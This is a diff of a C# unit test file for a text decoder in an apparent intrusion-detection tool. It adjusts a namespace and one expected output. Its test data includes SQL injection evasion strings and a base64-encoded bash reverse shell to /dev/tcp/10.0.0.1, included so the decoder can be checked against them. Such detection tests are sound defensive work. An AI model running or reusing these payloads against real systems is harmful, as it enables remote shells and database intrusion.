@@ -2,7 +2,7 @@ using System.Text;
 using NetSniff.Detection.Rules;
 using NetSniff.Detection.Rules.Patterns;
 
-namespace NetSniff.Tests.Core.Detection.Rules.Patterns;
+namespace NetSniff.Tests.Detection.Rules.Patterns;
 
 public class TextDecoderTests
 {
@@ -25,7 +25,7 @@ public class TextDecoderTests
     [InlineData("Unicode", "ｓｅｌｅｃｔ", "select")]
     [InlineData("Unicode", "naïve café", null)]
     [InlineData("SQLComment", "union/**/select/*x", "union select ")]
-    [InlineData("SQLComment", "/*!50000union*/ /*!select*/1", " union  select1")]
+    [InlineData("SQLComment", "/*!50000union*/ /*!select*/1", " union   select 1")]
     [InlineData("SQLComment", "a/b*c", null)]
     [InlineData("Base64", "c=YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMQ==&d", "c=bash -i >& /dev/tcp/10.0.0.1&d")]
     [InlineData("Base64", "/a/rather/long/path/of/words", null)]
